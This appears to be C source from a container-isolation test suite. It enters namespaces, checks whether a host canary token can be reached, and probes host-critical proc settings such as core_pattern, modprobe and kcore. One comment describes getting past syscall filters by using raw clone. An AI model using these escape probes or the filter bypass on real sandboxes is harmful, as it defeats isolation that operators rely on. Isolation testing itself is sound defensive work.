#include "attack.h"
#include <linux/nsfs.h>

int write_text(const char *path, const char *text) {
    int file = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (file < 0) return -1;
    ssize_t done = write(file, text, strlen(text));
    int reason = errno;
    close(file);
    errno = reason;
    return done < 0 ? -1 : 0;
}

int read_text(const char *path, char *text, size_t size) {
    int file = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (file < 0) return -1;
    ssize_t done = read(file, text, size - 1);
    int reason = errno;
    close(file);
    errno = reason;
    text[done < 0 ? 0 : done] = 0;
    return done < 0 ? -1 : 0;
}

int write_back(const char *path) {
    char text[4096];
    return read_text(path, text, sizeof text) < 0 ? -1 : write_text(path, text);
}

bool is_initial(const char *kind) {
    // include/linux/proc_ns.h: the first namespaces have these inodes.
    static const struct {
        const char *kind;
        unsigned inode;
    } known[] = {{"ipc", 0xEFFFFFFF}, {"uts", 0xEFFFFFFE}, {"user", 0xEFFFFFFD}, {"pid", 0xEFFFFFFC}, {"cgroup", 0xEFFFFFFB},
                 {"time", 0xEFFFFFFA}};
    char path[64];
    struct stat status;
    snprintf(path, sizeof path, "/proc/self/ns/%s", kind);
    if (stat(path, &status) < 0) return false;
    for (size_t index = 0; index < sizeof known / sizeof *known; index++)
        if (!strcmp(known[index].kind, kind)) return status.st_ino == known[index].inode;
    return false;
}

bool owns_network(void) {
    int network = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC), own = open("/proc/self/ns/user", O_RDONLY | O_CLOEXEC);
    int owner = ioctl(network, NS_GET_USERNS);
    struct stat a, b;
    return owner >= 0 && fstat(owner, &a) == 0 && fstat(own, &b) == 0 && a.st_ino == b.st_ino && !is_initial("user");
}

/// Root inside is the user that made the namespace.
static void map_users(uid_t user, gid_t group) {
    char text[64];
    write_text("/proc/self/setgroups", "deny");
    snprintf(text, sizeof text, "0 %u 1", user);
    write_text("/proc/self/uid_map", text);
    snprintf(text, sizeof text, "0 %u 1", group);
    write_text("/proc/self/gid_map", text);
}

int enter_namespaces(int flags) {
    uid_t user = getuid();
    gid_t group = getgid();
    if (unshare(flags) == 0) goto made;
    if (unshare(flags | CLONE_NEWUSER) == 0) {
        map_users(user, group);
        goto made;
    }
    // Filters can look at the number of a call and not at its flags.
    pid_t child = syscall(SYS_clone, flags | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child < 0) return -1;
    if (child > 0) {
        waitpid(child, NULL, 0);
        _exit(0);
    }
    map_users(user, group);
    return 0;
made:
    if (flags & CLONE_NEWPID) {
        pid_t first = fork();
        if (first > 0) {
            waitpid(first, NULL, 0);
            _exit(0);
        }
    }
    if (flags & CLONE_NEWNS) mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    return 0;
}

bool reaches_host(int directory) {
    const char *path = fact("canary"), *token = fact("token");
    if (!path || !token) return false;
    char text[256] = "";
    int file = openat(directory, path + 1, O_RDONLY | O_CLOEXEC);
    if (file < 0) return false;
    ssize_t done = read(file, text, sizeof text - 1);
    close(file);
    return done > 0 && !strncmp(text, token, strlen(token));
}

const char *writable_setting(const char *proc) {
    static const char *const names[] = {
        "sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/kernel/sysrq", "sys/kernel/panic", "sys/kernel/randomize_va_space",
        "sys/kernel/hotplug", "sys/kernel/poweroff_cmd", "sys/kernel/usermodehelper/bset", "sys/vm/drop_caches",
        "sys/vm/overcommit_memory", "sys/vm/panic_on_oom", "sys/fs/file-max", "sys/fs/protected_symlinks",
        "sys/fs/suid_dumpable", "sys/kernel/ns_last_pid/..", "sysrq-trigger", "irq/default_smp_affinity", "mtrr", "kcore", "kmsg",
    };
    static char path[PATH_MAX];
    for (size_t index = 0; index < sizeof names / sizeof *names; index++) {
        snprintf(path, sizeof path, "%s/%s", proc, names[index]);
        struct stat status;
        // nspawn lays nodes and empty files over some.
        if (stat(path, &status) < 0 || !S_ISREG(status.st_mode)) continue;
        bool secret = strstr(path, "kcore") || strstr(path, "kmsg");
        int file = open(path, (secret ? O_RDONLY : O_WRONLY) | O_NONBLOCK | O_CLOEXEC);
        if (file < 0) continue;
        char byte;
        bool empty = secret && read(file, &byte, 1) <= 0;
        close(file);
        if (!empty) return path;
    }
    return NULL;
}

const char *scratch(void) {
    static char path[64];
    const char *const places[] = {"/tmp", "/var/tmp", "/run", "/srv", "/"};
    for (size_t index = 0; index < sizeof places / sizeof *places; index++) {
        snprintf(path, sizeof path, "%s/attack-XXXXXX", places[index]);
        if (mkdtemp(path)) return path;
    }
    skipped("no directory can be made: %s", strerror(errno));
}
